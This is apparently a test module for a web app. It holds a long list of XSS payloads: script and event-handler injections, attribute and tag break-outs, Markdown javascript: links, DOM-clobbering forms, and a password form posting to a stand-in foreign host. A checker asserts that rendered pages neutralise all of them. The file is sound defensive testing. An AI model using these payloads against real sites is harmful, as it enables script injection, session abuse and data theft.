"""Hostile texts, and what must hold of every page that shows them.

A payload that runs sets `window.__xss`. `assert_page_is_harmless` looks at a page as a parser sees it: it may hold any
of the texts, which are no elements once they are escaped.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from html.parser import HTMLParser

RUN = "window.__xss=1"
_BASE64 = "PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg=="
FOREIGN = "https://elsewhere.example"

_ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=`x`onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml;base64,{_BASE64}#x'></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<math><mtext></p><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<object data='data:text/html;base64,{_BASE64}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<style>*{{background:url({FOREIGN}/style)}}</style>",
    f"<div style='background:url({FOREIGN}/attribute)'>x</div>",
    f"<link rel=stylesheet href={FOREIGN}/link.css>",
    f"<base href={FOREIGN}/>",
    f"<meta http-equiv=refresh content='0;url={FOREIGN}/meta'>",
    f"<form action={FOREIGN}/form><input name=password><button>ok</button></form>",
    f"</form><form id=f2 action={FOREIGN}/form2><button formaction='javascript:{RUN}'>ok</button>",
    "<div hx-get='/accounts/logout/' hx-trigger=load>x</div>",
    "<div data-hx-post='/accounts/logout/' data-hx-trigger='load'>x</div>",
    f"<div hx-on:click='{RUN}' hx-on::load='{RUN}'>x</div>",
    "<button data-act=regenerate data-copy=message data-close-dialog>x</button>",
    "<template id=message></template><div id=log role=log></div><p id=status role=status>x</p>",
    "<form name=__proto__><input name=attributes><img name=getElementById id=chat></form>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<plaintext><script>{RUN}</script>",
)
_OUT_OF = (
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"` onmouseover={RUN} `",
    f'";{RUN};//',
    "{{ 7|add:7 }}{% debug %}{# x #}{{7*7}}${7*7}<%= 7*7 %>",
    f"\u0000<script>{RUN}</script>\u0000",
    f"\ud83d<script>{RUN}</script>\udc00",
    f"<\u200bscript>{RUN}</\u200bscript>＜script＞{RUN}＜/script＞",
    f"\u202e<script>{RUN}</script>\u2066",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
    "javascript:" + RUN,
    "__proto__",
)
_MARKDOWN = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](<java\nscript:{RUN}>)",
    f"[x](&#106;avascript&colon;{RUN})",
    f"[x](\\javascript:{RUN})",
    f"[x](%6aavascript:{RUN})",
    f"[x](\u0001javascript:{RUN})",
    f"[x](data:text/html;base64,{_BASE64})",
    f"[x](vbscript:{RUN})",
    "[x](file:///etc/passwd)",
    "[x](blob:https://elsewhere.example/x)",
    "[x](//elsewhere.example/relative)",
    "[x](/accounts/logout/)",
    "[x](?next=/accounts/logout/)",
    f"<javascript:{RUN}>",
    f"![x](javascript:{RUN})",
    f"![x]({FOREIGN}/pixel.png)",
    f'![x]({FOREIGN}/pixel.png" onerror="{RUN})',
    f'![x" onerror="{RUN}]({FOREIGN}/pixel.png "t\\" onerror=\\"{RUN}")',
    f"![x](data:image/svg+xml;base64,{_BASE64})",
    f"[![x]({FOREIGN}/p.png)](javascript:{RUN})",
    f'[x](https://ok.example "a\\" onmouseover=\\"{RUN}")',
    f"[x]: javascript:{RUN}\n\n[x] ![x]",
    f"[x]: https://ok.example '\"onmouseover={RUN}//'\n\n[x]",
    f'```"><script>{RUN}</script>\ncode\n```',
    f"```html\n<script>{RUN}</script>\n```",
    f'``` python" onclick="{RUN}\nx = 1\n```',
    f"```hl-x\u0000'onclick={RUN}\nx\n```",
    f"`<script>{RUN}</script>`",
    f"    <script>{RUN}</script>",
    f"|<script>{RUN}</script>|b|\n|:-|-:|\n|<img src=x onerror={RUN}>|[x](javascript:{RUN})|",
    f"# <script>{RUN}</script>",
    f'- [x] <img src=x onerror={RUN}>\n- ["onclick={RUN}] x',
    f'{FOREIGN}/"onmouseover={RUN}//',
    f"{FOREIGN}/'onmouseover={RUN}//&quot;onclick={RUN}",
    f"http://`onmouseover={RUN}`@ok.example",
    f'<{FOREIGN}/"onmouseover={RUN}>',
    f'<x@ok.example?body="onmouseover={RUN}>',
)
PAYLOADS = _ELEMENTS + _OUT_OF + _MARKDOWN

# URLs that people follow, and those that browsers load or send to by themselves.
_ADDRESSES = {"href", "src", "srcset", "action", "formaction", "data", "poster", "xlink:href", "background"}
_REQUESTS = {"hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete"}
_NEVER = {"iframe", "object", "embed", "base", "style", "frame", "applet", "math", "foreignobject", "animate", "portal"}


@dataclass(frozen=True, slots=True)
class Element:
    """A start tag as a browser would see it."""

    tag: str
    attributes: dict[str, str]


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[Element] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(Element(tag, {name: value or "" for name, value in attrs}))


def elements_of(html: str) -> list[Element]:
    """Return every element of a page or a fragment."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found


def storable(payload: str) -> str:
    """Return a payload as PostgreSQL takes it: no NUL, no half characters. What is typed or answered is cleaned so."""
    return payload.replace("\0", "\ufffd").encode("utf-16", "surrogatepass").decode("utf-16", "replace")


def faults_of(html: str) -> list[str]:
    """Return what of a whole page could run, act or load something from elsewhere."""
    faults = []
    elements = elements_of(html)
    for element in elements:
        tag, attributes = element.tag, element.attributes
        if tag in _NEVER or (tag == "meta" and "http-equiv" in attributes):
            faults.append(f"<{tag}>")
        if tag == "script" and not re.match(r"/\w", attributes.get("src", "")):
            faults.append(f"<script src={attributes.get('src')!r}>")
        for name, value in attributes.items():
            if not _is_harmless(tag, name, value):
                faults.append(f"<{tag} {name}={value!r}>")
    ids = [element.attributes["id"] for element in elements if "id" in element.attributes]
    faults += [f"id={name} twice" for name in {name for name in ids if ids.count(name) > 1}]
    return faults


def _is_harmless(tag: str, name: str, value: str) -> bool:
    if (
        name.startswith(("on", "hx-on", "data-hx-"))
        or name in {"style", "srcdoc"}
        or not re.fullmatch(r"[\w:-]+", name)
    ):
        return False
    if name in _REQUESTS:
        return re.match(r"/(?!/|accounts/)|\?", value) is not None
    if name not in _ADDRESSES:
        return True
    if tag == "a":
        return re.match(r"https?://|mailto:|/(?!/)|[?#]|$", value) is not None
    return re.match(r"/(?!/)|[?#]|$|[\w.-]+/?$", value) is not None


def assert_page_is_harmless(html: str) -> None:
    """Nothing in the page runs, acts by itself, or is loaded from another site."""
    faults = faults_of(html)
    assert faults == [], faults[:3]
